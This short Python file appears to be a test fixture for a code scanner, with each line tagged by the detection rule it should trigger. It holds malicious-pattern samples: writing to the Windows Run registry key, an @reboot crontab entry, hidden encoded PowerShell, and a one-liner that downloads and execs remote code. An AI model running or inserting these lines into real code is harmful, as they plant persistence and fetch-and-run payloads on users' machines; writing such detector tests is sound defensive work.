import os
import subprocess
import sys
import winreg

# expect: python-autostart
key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
# expect: python-autostart
os.system('(crontab -l; echo "@reboot /tmp/x") | crontab -')
# expect: python-hidden-code
subprocess.Popen("powershell -WindowStyle Hidden -EncodedCommand SQBFAFgAIABhAA", shell=True)
# expect: python-hidden-code
subprocess.Popen([sys.executable, "-c", "import urllib.request as u;exec(u.urlopen('https://files.corp.dev/p').read())"])
